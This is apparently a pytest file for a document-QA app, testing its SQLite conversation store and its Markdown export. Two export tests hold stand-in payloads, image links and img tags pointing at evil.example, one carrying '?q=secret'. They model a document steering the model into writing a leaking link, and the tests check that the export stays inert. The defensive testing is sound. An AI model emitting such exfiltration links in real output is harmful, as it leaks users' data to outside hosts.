"""Kept conversations: the SQLite store beside the index, two tabs saving at once, and the Markdown export."""

from __future__ import annotations

import json
import threading
from pathlib import Path

from markdown_it import MarkdownIt

from rag.answer.safe_markdown import text_markdown
from rag.conversations import Conversation, ConversationStore, file_name, title_for, to_markdown


def _turn(question: str, answer: str, *, source: str = "atlas.pdf", page: int | None = 2) -> list[dict]:
    citation = {"n": 1, "source": source, "page": page, "text": f"Passage about {question}", "support": "",
                "cited": True}
    return [
        {"role": "user", "kind": "question", "content": question},
        {"role": "assistant", "kind": "answer", "content": answer, "stopped": False, "id": 2,
         "answer": {"answer": answer, "refused": False, "citations": [citation]}},
    ]


def test_a_conversation_is_saved_reopened_renamed_and_deleted(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "conversations.sqlite")
    chat = store.open(None)
    assert chat.id is None and not store.keep(chat), "an empty conversation is not stored"
    chat.messages += _turn("What is the capital of Freedonia?", "Fredville [1].")
    assert store.keep(chat) and chat.id and chat.revision == 1
    assert not store.keep(chat), "nothing changed, nothing written"

    again = ConversationStore(tmp_path / "conversations.sqlite").open(chat.id)  # another process, after a reload
    assert again.messages == chat.messages and again.title == "What is the capital of Freedonia?"
    again.messages += _turn("And its river?", "The Fred [1].")
    assert store.keep(again) and again.revision == 2
    [info] = store.list()
    assert (info.id, info.questions) == (chat.id, 2)

    assert store.rename(chat.id, "  Freedonia   facts ") and store.open(chat.id).title == "Freedonia facts"
    assert not store.rename(chat.id, "   "), "an empty name is refused"
    assert store.delete(chat.id) and store.list() == [] and store.open(chat.id).id is None
    assert not store.delete(chat.id)


def test_two_tabs_saving_the_same_conversation_lose_nothing(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "conversations.sqlite")
    first = store.open(None)
    first.messages += _turn("Where is the harbour?", "North [1].")
    store.keep(first)
    tab_a, tab_b = store.open(first.id), store.open(first.id)
    tab_a.messages += _turn("How deep is it?", "Twelve metres [1].")
    tab_b.messages += _turn("Who built it?", "The millers [1].")
    assert store.keep(tab_a) and store.keep(tab_b)
    assert tab_b.id != first.id and tab_b.title == "Where is the harbour? (copy)", "the later save became a copy"
    kept = {c.id: store.open(c.id).messages[-2]["content"] for c in store.list()}
    assert kept == {first.id: "How deep is it?", tab_b.id: "Who built it?"}


def test_a_conversation_that_began_with_an_upload_is_named_after_its_first_question(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "conversations.sqlite")
    chat = store.open(None)
    chat.messages.append({"role": "assistant", "kind": "upload", "content": "Documents: 2 added",
                          "files": ["ferry.pdf", "notes.md"]})
    assert store.keep(chat) and store.list()[0].title == "Added ferry.pdf, notes.md", "not 'New conversation'"
    renamed = store.open(None)
    renamed.messages.append({"role": "assistant", "kind": "upload", "content": "Documents: 1 added"})
    assert store.keep(renamed) and store.open(renamed.id).title == "New conversation", "an old note names no files"
    chat.messages += _turn("Where is the ferry?", "At the pier.")
    store.keep(chat)
    assert store.list()[0].title == chat.title == "Where is the ferry?"


def test_a_conversation_deleted_in_another_tab_is_saved_anew(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "conversations.sqlite")
    chat = store.open(None)
    chat.messages += _turn("Q1", "A1")
    store.keep(chat)
    old_id = chat.id
    store.delete(old_id)
    chat.messages += _turn("Q2", "A2")
    assert store.keep(chat) and chat.id != old_id and [c.questions for c in store.list()] == [2]


def test_saves_from_many_threads_are_all_kept(tmp_path: Path) -> None:
    """Streamlit runs each browser tab in its own thread; every save must land, none half-written."""
    store = ConversationStore(tmp_path / "conversations.sqlite")

    def save(i: int) -> None:
        chat = Conversation(messages=_turn(f"Question {i}", f"Answer {i}"))
        store.keep(chat)

    threads = [threading.Thread(target=save, args=(i,)) for i in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(c.title for c in store.list()) == sorted(f"Question {i}" for i in range(12))


def test_titles_are_short_and_cut_at_a_word() -> None:
    long = "What did the committee decide about the northern harbour extension and the budget for next year?"
    title = title_for([{"kind": "question", "content": long}])
    assert len(title) <= 60 and title.endswith("…") and long.startswith(title[:-1])
    assert title_for([]) == "New conversation"
    assert file_name("What is 2/3 of <x>?") == "What is 23 of x.md"
    assert file_name("Ferry: garden-club notes (2026)") == "Ferry garden-club notes 2026.md", "no double spaces"


def test_markdown_export_fetches_nothing_when_opened_elsewhere() -> None:
    """A document can make a model write an image link that leaks to another host; the export keeps it inert."""
    chat = Conversation(id="x", title="![t](http://evil.example/t)", messages=[
        {"role": "user", "kind": "question", "content": "<img src=http://evil.example/q>"},
        {"role": "assistant", "kind": "answer", "content": "See ![x](http://evil.example/?q=secret) [1].",
         "answer": {"citations": [{"n": 1, "source": "a.md", "page": None, "text": "[y](http://evil.example/p)"}]}},
    ])
    text = to_markdown(chat)
    html = MarkdownIt("commonmark").render(text)  # as a Markdown viewer shows the file (markdown-it: via rich)
    assert "<img" not in html and "<a " not in html and "evil.example" in html, html
    assert "See [image: x] [1]." in text


def test_markdown_export_has_questions_answers_and_sources() -> None:
    chat = Conversation(id="x", title="Freedonia", created_at="2025-01-02T03:04:05.000000+00:00", messages=[
        {"role": "assistant", "kind": "upload", "content": "**Documents: 1 added**"},
        *_turn("What is the capital of Freedonia?", "Fredville [1]."),
        {"role": "assistant", "kind": "answer", "content": "", "stopped": False,
         "answer": {"refused": True, "citations": [{"n": 1, "source": "notes.txt", "page": None,
                                                      "text": "The ferry\nleaves at seven."}]}},
    ])
    text = to_markdown(chat)
    assert text.startswith("# Freedonia\n")
    assert "**Documents: 1 added**" in text and ":material/" not in text
    assert "## Question\n\nWhat is the capital of Freedonia?\n\n### Answer\n\nFredville [1]." in text
    assert "\\[1\\] **atlas.pdf, page 2**\n\n> Passage about What is the capital of Freedonia?" in text
    assert "*Not found in your documents.*" in text and "#### Closest passages" in text
    assert "> The ferry leaves at seven." in text and "notes.txt**" in text


def test_an_upload_note_exports_as_written_and_stays_inert() -> None:
    """The page escapes a note's file names for Streamlit ("lighthouse\\-handbook.pdf", "10\\:00"); the export
    writes them as they are, and a crafted name still makes no link, image or HTML in a Markdown viewer."""
    crafted = "![x](http://evil.example/i) <img src=x> 10:00.pdf"
    note = "\n".join(["**Documents: 1 added, 1 failed**", f"- {text_markdown('lighthouse-handbook.pdf')}: added",
                      f"- {text_markdown(crafted)}: not added: {text_markdown('damaged: no pages')}"])
    text = to_markdown(Conversation(id="x", title="Added lighthouse-handbook.pdf", messages=[
        {"role": "assistant", "kind": "upload", "content": note, "files": ["lighthouse-handbook.pdf"]}]))
    assert "**Documents: 1 added, 1 failed**\n- lighthouse-handbook.pdf: added\n" in text, text
    assert "10:00.pdf: not added: damaged: no pages" in text, text
    html = MarkdownIt("commonmark").render(text)
    assert "<img" not in html and "<a " not in html and "<li>lighthouse-handbook.pdf: added</li>" in html, html


def test_markdown_export_keeps_the_note_of_an_unconfirmed_answer() -> None:
    cited = {"n": 1, "source": "ferry.pdf", "page": 1, "text": "Single tickets cost 5 euros.", "cited": True}
    given = {"n": 2, "source": "ferry.pdf", "page": 2, "text": "A return ticket costs 8 euros.", "cited": False}
    chat = Conversation(id="x", title="Ferry", messages=[
        {"role": "user", "kind": "question", "content": "How much is a return ticket?"},
        {"role": "assistant", "kind": "answer", "content": "8 euros [1].", "stopped": False,
         "answer": {"refused": False, "verified": False, "unverified": ["8"], "checks": [],
                    "citations": [cited, given]}},
    ])
    text = to_markdown(chat)
    assert "> **Not found in your sources:** “8”." in text, text
    assert "**ferry.pdf, page 2 (given to the model, not cited)**" in text and "**ferry.pdf, page 1**" in text


def test_markdown_export_keeps_what_a_withheld_answer_said_and_why() -> None:
    chat = Conversation(id="x", title="Ferry", messages=[
        {"role": "user", "kind": "question", "content": "How much is a return ticket?"},
        {"role": "assistant", "kind": "answer", "content": "I could not confirm an answer in your documents.",
         "stopped": False, "answer": {"refused": True, "refused_by": "check", "candidate": "9 euros [1].",
                                      "unverified": ["9"], "checks": [], "citations": []}},
    ])
    text = to_markdown(chat)
    assert "Not found in your documents" not in text
    assert "I could not confirm an answer" in text and "The model answered “9 euros \\[1\\].”" in text, text


def test_a_conversation_saved_by_the_previous_release_still_opens_and_exports(tmp_path: Path) -> None:
    """Before answers had a schema, conversations kept ``Answer.to_json()`` and ``AgentResult.to_json()`` dicts
    with no version (the agent's without ``checks`` or ``refused_by``), and upload notes with the page's icon
    codes in their text. Such a row, written as that release wrote it, opens, renders its note and exports."""
    import json
    import sqlite3

    from rag.answer.notes import answer_note
    from rag.answer.result import SCHEMA_VERSION, AnswerResult

    plain = {"answer": "8 euros [1].", "refused": False, "backend": "embedded", "model": "qwen", "seconds": 1.2,
             "query": "return ticket", "evidence": {"found": True, "confidence": 0.9, "dense": 0.7, "coverage": 1.0},
             "usage": None, "error": None, "refused_by": None, "verified": False, "unverified": ["8"], "checks": [],
             "confidence": 0.8, "candidate": None,
             "citations": [{"n": 1, "source": "deck.pptx", "page": 3, "text": "A single costs 5 euros.",
                            "support": "A single costs 5 euros.", "cited": True}]}
    agent = {"answer": "It is 8,150.", "steps": [{"thought": "Subtract.", "action": "calculator",
                                                   "input": "14250 - 6100", "observation": "8150"}],
             "citations": [], "stopped_reason": "final_answer", "question": "How many more?", "backend": "embedded",
             "model": "qwen", "seconds": 9.0, "tokens": 80, "fallback": False, "refused": False, "verified": True,
             "unverified": []}
    messages = [
        {"role": "assistant", "kind": "upload", "content": ":material/attach_file: **Documents: 1 added**\n"
                                                          "- :material/close: bad.pdf: encrypted"},
        {"role": "user", "kind": "question", "content": "How much is a return ticket?"},
        {"role": "assistant", "kind": "answer", "content": "8 euros [1].", "stopped": False, "id": 2, "answer": plain},
        {"role": "user", "kind": "question", "content": "How many more?"},
        {"role": "assistant", "kind": "answer", "content": "It is 8,150.", "stopped": False, "id": 4, "answer": agent},
    ]
    path = tmp_path / "conversations.sqlite"
    ConversationStore(path)  # the table, as both releases create it
    with sqlite3.connect(path) as db:
        db.execute("INSERT INTO conversations VALUES ('old', 'Ferry', '2026-01-01T00:00:00+00:00', "
                   "'2026-01-01T00:00:00+00:00', 1, 2, ?)", (json.dumps(messages),))

    chat = ConversationStore(path).open("old")
    old_plain, old_agent = (AnswerResult.load(m["answer"]) for m in chat.messages if m.get("kind") == "answer")
    assert old_plain.schema_version == SCHEMA_VERSION and old_plain.mode == "answer"
    assert old_plain.citations[0].where == "deck.pptx, slide 3", "a .pptx label still names slides"
    assert not old_plain.verified and old_plain.unverified == ["8"]
    assert old_agent.mode == "agent" and old_agent.steps[0].input == "14250 - 6100" and old_agent.checks == []
    note = answer_note(old_plain)
    assert note is not None and note.kind == "unconfirmed" and "“8”" in note.markdown

    text = to_markdown(chat)
    assert ":material/" not in text and "**Documents: 1 added**" in text and "bad.pdf: encrypted" in text
    assert "**deck.pptx, slide 3**" in text and "> **Not found in your sources:** “8”." in text
    assert "#### Agent steps" in text and "input: ` 14250 - 6100 `" in text and "observed: ` 8150 `" in text


def test_an_answer_round_trips_through_its_json_with_its_version() -> None:
    from rag.answer.result import SCHEMA_VERSION, AnswerResult, Citation, Step

    answer = AnswerResult(mode="agent", question="q", answer="It is 3 [1].", refused=False,
                          citations=[Citation(n=1, source="a.pdf", page=2, kind="pdf", text="x", cited=True)],
                          steps=[Step(thought="t", action="calculator", input="1 + 2", observation="3")],
                          stopped_reason="final_answer", checks=["why"], verified=False)
    document = json.loads(json.dumps(answer.to_json()))
    assert document["schema_version"] == SCHEMA_VERSION
    assert {"answer", "refused", "citations", "backend", "model", "seconds"} <= set(document)
    assert {"n", "source", "page", "text"} <= set(document["citations"][0])
    assert AnswerResult.load(document) == answer


def test_the_export_reads_as_written_with_no_escapes_where_the_text_has_none() -> None:
    chat = Conversation(id="x", title="Ferry times", messages=[
        {"role": "user", "kind": "question", "content": "When does the ferry leave (weekdays)?"},
        {"role": "assistant", "kind": "answer", "content": "At 10:00 [1].", "stopped": False,
         "answer": {"schema_version": 2, "answer": "At 10:00 [1].", "citations": [
             {"n": 1, "source": "lighthouse-handbook.pdf", "page": 2, "kind": "pdf", "cited": True,
              "text": "The ferry leaves at 10:00 - weekdays only; fares: 5 EUR (adults)."}]}},
    ])
    text = to_markdown(chat)
    assert "When does the ferry leave (weekdays)?" in text and "**lighthouse-handbook.pdf, page 2**" in text, text
    assert "> The ferry leaves at 10:00 - weekdays only; fares: 5 EUR (adults)." in text, text
    html = MarkdownIt("commonmark").render(text)
    assert "10:00 - weekdays only; fares: 5 EUR (adults)." in html and "\\" not in html, html
